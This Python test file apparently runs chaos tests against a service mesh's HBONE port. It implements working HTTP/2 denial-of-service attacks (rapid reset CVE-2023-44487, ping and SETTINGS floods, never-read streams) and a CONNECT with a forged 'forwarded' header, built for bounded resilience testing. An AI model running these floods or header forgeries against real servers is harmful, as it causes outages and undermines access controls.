"""Hostile HBONE peers with *valid* certificates, run inside a testbed node's netns.

``python -m tests.chaos.attacker MODE --ca DIR --node-ip IP --sa SA --dst-sa SA --target IP:PORT``
prints one JSON line. The certificate is issued by the mesh CA for ``--sa`` (so the
TLS handshake and identity checks pass: these are the attacks an insider with a
stolen workload key could run); the HTTP/2 framing comes from the independent
``h2`` library or is written raw. Every mode is bounded in count and time.

Modes: ``rapid-reset`` (HEADERS+RST_STREAM as fast as possible, CVE-2023-44487),
``ping-flood`` / ``settings-flood`` (control frames, never reading the answers),
``never-read`` (streams to a pod that sends, with huge windows, never reading),
``connect`` (one CONNECT stream, optionally with a forged ``forwarded`` header).
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import ssl
import struct
import time
from datetime import UTC, datetime

import h2.config
import h2.connection
import h2.events
import h2.settings

from agent.identity.ca import MeshCA
from agent.identity.spiffe import SpiffeId, sni_name
from agent.identity.tls import ClientContexts

TD = "cluster.local"


def tls_connect(args: argparse.Namespace, *, rcvbuf: int = 0) -> ssl.SSLSocket:
    ca = MeshCA.load(args.ca)
    cert = ca.issue(SpiffeId(TD, "default", args.sa), now=datetime.now(UTC))
    ctx = ClientContexts(ca.bundle, trust_domain=TD).get(cert)
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if rcvbuf:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    raw.settimeout(5)
    raw.connect((args.node_ip, 15008))
    return ctx.wrap_socket(raw, server_hostname=sni_name(SpiffeId(TD, "default", args.dst_sa)))


def h2_client() -> h2.connection.H2Connection:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    return conn


def drain_events(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, out: dict[str, object]) -> bool:
    """Read what is there without blocking; False once the peer closed."""
    while True:
        if not sock.pending():
            r, _, _ = select.select([sock], [], [], 0)
            if not r:
                return True
        try:
            data = sock.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError as e:
            out["closed"] = f"{type(e).__name__}"
            return False
        if not data:
            out["closed"] = "eof"
            return False
        try:
            events = conn.receive_data(data)
        except Exception as e:  # the h2 library objects to something: record it, stop
            out["closed"] = f"h2: {type(e).__name__}"
            return False
        for ev in events:
            if isinstance(ev, h2.events.ConnectionTerminated):
                out["goaway"] = int(ev.error_code)
            elif isinstance(ev, h2.events.StreamReset):
                codes = out.setdefault("reset_codes", {})
                assert isinstance(codes, dict)
                codes[int(ev.error_code)] = codes.get(int(ev.error_code), 0) + 1
            elif isinstance(ev, h2.events.ResponseReceived):
                out["responses"] = int(out.get("responses", 0)) + 1  # type: ignore[call-overload]


def rapid_reset(args: argparse.Namespace) -> dict[str, object]:
    sock = tls_connect(args)
    conn = h2_client()
    sock.sendall(conn.data_to_send())
    out: dict[str, object] = {"sent": 0}
    deadline = time.monotonic() + args.seconds
    sent = 0
    sock.setblocking(False)
    while sent < args.count and time.monotonic() < deadline:
        for _ in range(100):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "CONNECT"), (":authority", args.target)])
            conn.reset_stream(sid)
            sent += 1
        try:
            sock.setblocking(True)
            sock.settimeout(2)
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
        except OSError as e:
            out["closed"] = f"send: {type(e).__name__}"
            break
        if not drain_events(sock, conn, out):
            break
        if "goaway" in out:
            break
    out["sent"] = sent
    end = time.monotonic() + 3
    while "closed" not in out and "goaway" not in out and time.monotonic() < end:
        time.sleep(0.05)
        drain_events(sock, conn, out)
    sock.close()
    return out


def control_flood(args: argparse.Namespace, kind: str) -> dict[str, object]:
    """Control frames that each make the server queue an answer, never reading one."""
    sock = tls_connect(args, rcvbuf=4096)
    sock.sendall(h2_client().data_to_send())  # preface + SETTINGS
    if kind == "ping":
        frame = struct.pack(">I", 8)[1:] + bytes([6, 0]) + struct.pack(">I", 0) + b"pingpong"
    else:
        payload = struct.pack(">HI", 4, 65535)  # INITIAL_WINDOW_SIZE
        frame = struct.pack(">I", len(payload))[1:] + bytes([4, 0]) + struct.pack(">I", 0) + payload
    batch = frame * 500
    sent = 0
    out: dict[str, object] = {}
    deadline = time.monotonic() + args.seconds
    sock.settimeout(2)
    while sent < args.count and time.monotonic() < deadline:
        try:
            sock.sendall(batch)
        except TimeoutError:
            out["blocked"] = True  # the server stopped reading us: what a bounded server does
            break
        except OSError as e:
            out["closed"] = type(e).__name__
            break
        sent += 500
    out["sent"] = sent
    sock.close()
    return out


def never_read(args: argparse.Namespace) -> dict[str, object]:
    """Open streams to a pod that sends data, grant huge windows, then read nothing."""
    sock = tls_connect(args, rcvbuf=4096)
    conn = h2_client()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1})
    conn.increment_flow_control_window(2**31 - 1 - 65535)
    for _ in range(args.count):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "CONNECT"), (":authority", args.target)])
    sock.sendall(conn.data_to_send())
    time.sleep(args.seconds)  # read nothing: the server must not buffer without bound
    sock.close()
    return {"streams": args.count}


def connect_one(args: argparse.Namespace) -> dict[str, object]:
    out: dict[str, object] = {}
    try:
        sock = tls_connect(args)
    except OSError as e:
        return {"status": None, "error": f"{type(e).__name__}: {e}"}
    conn = h2_client()
    headers = [(":method", "CONNECT"), (":authority", args.target)]
    if args.forwarded:
        headers.append(("forwarded", f'for="{args.forwarded}:40000"'))
    sid = conn.get_next_available_stream_id()
    try:
        sock.sendall(conn.data_to_send())
        conn.send_headers(sid, headers)
        conn.send_data(sid, b"GET / HTTP/1.0\r\n\r\n", end_stream=True)
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            data = sock.recv(65536)
            if not data:
                out.setdefault("error", "closed by the server")
                break
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived):
                    out["status"] = int(dict(ev.headers)[":status"])
                elif isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset):
                    out["ended"] = True
            sock.sendall(conn.data_to_send())
            if "ended" in out or "status" in out:
                break
    except OSError as e:
        out.setdefault("error", f"{type(e).__name__}: {e}")
    sock.close()
    out.setdefault("status", None)
    return out


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["rapid-reset", "ping-flood", "settings-flood", "never-read", "connect"])
    p.add_argument("--ca", required=True)
    p.add_argument("--node-ip", required=True)
    p.add_argument("--sa", default="client")
    p.add_argument("--dst-sa", default="web")
    p.add_argument("--target", default="")
    p.add_argument("--count", type=int, default=20_000)
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument("--forwarded", default="")
    args = p.parse_args()
    mode = args.mode
    if mode == "rapid-reset":
        out = rapid_reset(args)
    elif mode == "ping-flood":
        out = control_flood(args, "ping")
    elif mode == "settings-flood":
        out = control_flood(args, "settings")
    elif mode == "never-read":
        out = never_read(args)
    else:
        out = connect_one(args)
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
